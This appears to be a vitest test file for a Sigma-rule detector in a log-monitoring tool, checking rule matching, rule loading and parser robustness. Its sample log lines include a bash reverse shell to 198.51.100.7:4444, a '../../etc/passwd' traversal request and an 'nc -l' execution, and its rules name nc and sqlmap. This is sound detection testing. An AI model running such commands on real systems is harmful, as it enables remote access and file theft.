import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { type DeadLetter, type EventBatch, type LogBatch, type RecordBatch, silentLogger } from '../../core/index.ts';
import { createLogParser, createSensorParser } from '../../parsers/index.ts';
import { config } from './config.ts';
import { SigmaDetector } from './detector.ts';

const folder = mkdtempSync(join(tmpdir(), 'vedette-sigma-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const rule = (title: string, source: string, detection: string, level = 'high'): string =>
  `title: ${title}\nid: ${title}\nlevel: ${level}\ntags: [attack.execution, attack.t1059.004]\nlogsource: {${source}}\ndetection:\n  s: {${detection}}\n  condition: s\n`;

const RULES = {
  'process.yml': rule('whoami', 'category: process_creation, product: windows', "Image|endswith: '\\whoami.exe'"),
  'web.yml': rule('traversal', 'category: webserver', "cs-uri-query|contains: '../'"),
  'ssh.yml': rule('ssh', 'product: linux, service: sshd', "message|contains: 'invalid user'"),
  'audit.yml': rule('auditd', 'product: linux, service: auditd', 'type: EXECVE, a0: nc'),
  'dns.yml': rule('dns', 'category: dns', "query|endswith: '.onion'"),
  'zeek.yml': rule('zeek', 'product: zeek, service: http', "user_agent|contains: 'sqlmap'"),
  'rpc.yml': rule('dcsync', 'product: zeek, service: dce_rpc', 'operation: DRSGetNCChanges'),
  'low.yml': rule('low', 'product: linux, service: sshd', "message|contains: 'invalid user'", 'low'),
  'bad.yml': 'title: bad\ndetection: {s: {a|magic: 1}, condition: s}\nlogsource: {}',
  'many.yml': `title: guessing\nlevel: high\ncorrelation: {type: event_count, rules: [ssh], group-by: [host.name], timespan: 1m, condition: {gte: 3}, generate: true}\n`,
};
mkdirSync(join(folder, 'rules/deep'), { recursive: true });
for (const [name, text] of Object.entries(RULES)) writeFileSync(join(folder, 'rules/deep', name), text);

const detector = (more: object = {}) =>
  new SigmaDetector(config.parse({ rules: join(folder, 'rules'), own: false, minLevel: 'medium', ...more }), silentLogger);

function records(input: string, lines: readonly string[]): RecordBatch {
  const bytes = new TextEncoder().encode(`${lines.join('\n')}\n`);
  return { input, generation: 'g', offset: 0, line: 1, bytes, arrival: Date.UTC(2026, 0, 2) * 1000, last: true };
}

function logs(lines: readonly string[], format?: string): LogBatch {
  const parser = createLogParser(format === undefined ? {} : { format });
  return parser.parse(records('app.log', lines), 'app', () => undefined);
}

function sensorEvents(input: string, lines: readonly string[]): EventBatch[] {
  return createSensorParser('sensor').parse(records(input, lines), () => undefined);
}

const titles = (batch: LogBatch | EventBatch): string[] =>
  detector()
    .take(batch)
    .map(({ rule }) => rule);

describe('events of every source', () => {
  it('are matched by the rules of their kind', () => {
    const sysmon = { '@timestamp': '2026-01-01T00:00:00Z', Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Computer: 'pc1' };
    expect(titles(logs([JSON.stringify({ ...sysmon, Image: 'C:\\Windows\\whoami.exe' })], 'json'))).toEqual(['whoami']);
    const access = '9.9.9.9 - - [01/Jan/2026:00:00:00 +0000] "GET /a?f=../../etc/passwd HTTP/1.1" 200 12 "-" "curl"';
    expect(titles(logs([access], 'access-combined'))).toEqual(['traversal']);
    const sshd = 'Jan  1 00:00:00 web sshd[1]: Failed password for invalid user bob from 9.9.9.9 port 2 ssh2';
    expect(titles(logs([sshd], 'syslog'))).toEqual(['ssh']);
    const audit = 'type=EXECVE msg=audit(1700000000.000:1): argc=2 a0="nc" a1="-l"';
    expect(titles(logs([audit], 'plain'))).toEqual(['auditd']);
    const eve = { timestamp: '2026-01-01T00:00:00.000000+0000', flow_id: 1, src_ip: '10.0.0.1', dest_ip: '10.0.0.2', proto: 'UDP' };
    const [dns] = sensorEvents('eve.json', [JSON.stringify({ ...eve, event_type: 'dns', dns: { rrname: 'x.onion', rrtype: 'A' } })]);
    expect(titles(dns as EventBatch)).toEqual(['dns']);
    const header = ['#separator \\x09', '#path\thttp', '#fields\tts\tuid\tid.orig_h\tid.resp_h\tuser_agent'];
    const [http] = sensorEvents('http.log', [...header, '1700000000.5\tC1\t10.0.0.1\t10.0.0.2\tsqlmap/1.0']);
    expect(titles(http as EventBatch)).toEqual(['zeek']);
    const call = { _path: 'dce_rpc', ts: 1, 'id.orig_h': '10.0.0.1', endpoint: 'drsuapi', operation: 'DRSGetNCChanges' };
    const [rpc] = sensorEvents('dce_rpc.log', [JSON.stringify(call)]);
    expect(titles(rpc as EventBatch)).toEqual(['dcsync']);
  });

  it('say in the finding which rule, level, techniques, host, user and event', () => {
    const event = { '@timestamp': '2026-01-01T00:00:00Z', Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, User: 'PC1\\bob' };
    const [found] = detector().take(logs([JSON.stringify({ ...event, Computer: 'pc1', Image: 'C:\\whoami.exe' })], 'json'));
    expect(found).toMatchObject({ rule: 'whoami', severity: 65, techniques: ['T1059.004'], entity: 'pc1', user: 'PC1\\bob', score: 1 });
    expect(found?.explanation.why).toContain('level high');
    expect(found?.explanation.contributions[0]?.observed).toBe('Image: C:\\whoami.exe');
    expect(found?.evidence).toMatchObject([{ input: 'app.log', line: 1, offset: 0 }]);
  });
});

describe('an entity that stands in the text of a line', () => {
  const shell = (second: number, host: string): string =>
    `Jan  1 00:00:${String(second).padStart(2, '0')} ${host} bash[1]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`;

  it('is told of by each host for itself', () => {
    const sigma = new SigmaDetector(config.parse({}), silentLogger);
    const found = [1, 2, 3].flatMap((second) => [...sigma.take(logs([shell(second, 'web1'), shell(second, 'db1')], 'syslog'))]);
    const told = new Map(found.map((finding) => [finding.key, finding]));
    expect([...told.values()].map(({ entity, host, evidence }) => [entity, host, evidence.length])).toEqual([
      ['198.51.100.7', 'web1', 3],
      ['198.51.100.7', 'db1', 3],
    ]);
  });
});

describe('the rules', () => {
  it('load from a folder or an archive of it, or are named with the reason', () => {
    const archive = join(folder, 'rules.tar.gz');
    writeFileSync(archive, gzipSync(tar(RULES)));
    for (const rules of [join(folder, 'rules'), archive]) {
      const { problems } = detector({ rules });
      expect(detector({ rules }).counters().rules).toBe(9);
      expect(problems).toMatchObject([{ title: 'bad', reason: expect.stringContaining('magic') }]);
    }
    expect(() => detector({ rules: '/nowhere' })).toThrow(expect.objectContaining({ code: 'INPUT_MISSING' }));
    writeFileSync(join(folder, 'cut.tar'), tar(RULES).subarray(0, 3 * 512 + 20));
    expect(() => detector({ rules: join(folder, 'cut.tar') })).toThrow(expect.objectContaining({ code: 'INPUT_UNREADABLE' }));
  });

  it('are read from regular files of a bounded size only, and an error tells nothing of what a file holds', () => {
    const made = (rules: string) => () => detector({ rules });
    const refused = (text: string) => expect.objectContaining({ code: 'INPUT_UNREADABLE', message: expect.stringContaining(text) });
    expect(made('/dev/zero')).toThrow(refused('no regular file'));
    const pipe = join(folder, 'pipe');
    execFileSync('mkfifo', [pipe]);
    expect(made(pipe)).toThrow(refused('no regular file'));
    const secret = join(folder, 'secret');
    writeFileSync(secret, `root:x:0:0:${'password-of-root:'.repeat(99)}`);
    expect(made(secret)).toThrow(refused('no readable archive'));
    expect(made(secret)).not.toThrow(/password|root:x/);
    const large = join(folder, 'large');
    mkdirSync(large);
    writeFileSync(join(large, 'one.yml'), '');
    truncateSync(join(large, 'one.yml'), 5 * 1024 * 1024);
    expect(made(large)).toThrow(refused('more than 4 MiB'));
  });

  it('below the least level say nothing', () => {
    const line = 'Jan  1 00:00:00 web sshd[1]: Failed password for invalid user bob from 9.9.9.9 port 2 ssh2';
    const all = detector({ minLevel: 'low' }).take(logs([line], 'syslog'));
    expect(all.map(({ rule }) => rule).sort()).toEqual(['low', 'ssh']);
  });

  it('correlate events over a snapshot', () => {
    const line = (second: number): string => `Jan  1 00:00:0${second} web sshd[1]: Failed password for invalid user bob from 9.9.9.9`;
    const first = detector();
    first.take(logs([line(1), line(2)], 'syslog'));
    const second = detector();
    second.restore(first.snapshot());
    const found = second.take(logs([line(3)], 'syslog'));
    expect(found.map(({ title }) => title.split(':')[0]).sort()).toEqual(['guessing', 'ssh']);
    expect(found.find(({ title }) => title.startsWith('guessing'))).toMatchObject({ entity: 'web', title: 'guessing: web (3 events)' });
  });
});

describe('hostile events', () => {
  it('break nothing, whatever a record holds', () => {
    const sigma = detector();
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.json({ maxDepth: 8 }), fc.string()), { minLength: 1, maxLength: 5 }), (lines) => {
        for (const format of ['json', 'plain', 'syslog', 'access-combined']) sigma.take(logs(lines, format));
        for (const input of ['eve.json', 'conn.log']) for (const batch of sensorEvents(input, lines)) sigma.take(batch);
      }),
      { numRuns: 60 },
    );
  });

  it('of sensors become events or dead letters, each record once', () => {
    fc.assert(
      fc.property(fc.array(fc.json({ maxDepth: 4 }), { maxLength: 8 }), (lines) => {
        const parser = createSensorParser('s');
        const dead: DeadLetter[] = [];
        const clean = lines.map((line) => line.replaceAll('\n', ' '));
        const events = parser.parse(records('x', clean), (letter) => dead.push(letter)).reduce((sum, { rows }) => sum + rows, 0);
        expect(events + dead.length + (parser.counters().skipped ?? 0)).toBeLessThanOrEqual(Math.max(1, lines.length));
      }),
    );
  });
});

/** A tar archive as `tar` writes it, with one name in an extended header. */
function tar(files: Readonly<Record<string, string>>): Buffer {
  const blocks: Buffer[] = [];
  const add = (name: string, text: string, type: string): void => {
    const content = Buffer.from(text);
    const head = Buffer.alloc(512);
    head.write(name, 0);
    head.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
    head.write(type, 156);
    blocks.push(head, content, Buffer.alloc((512 - (content.length % 512)) % 512));
  };
  for (const [i, [name, text]] of Object.entries(files).entries()) {
    if (i === 0) add('PaxHeader', `${`path=long/${name}\n`.length + 3} path=long/${name}\n`, 'x');
    add(i === 0 ? 'cut short' : name, text, '0');
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}
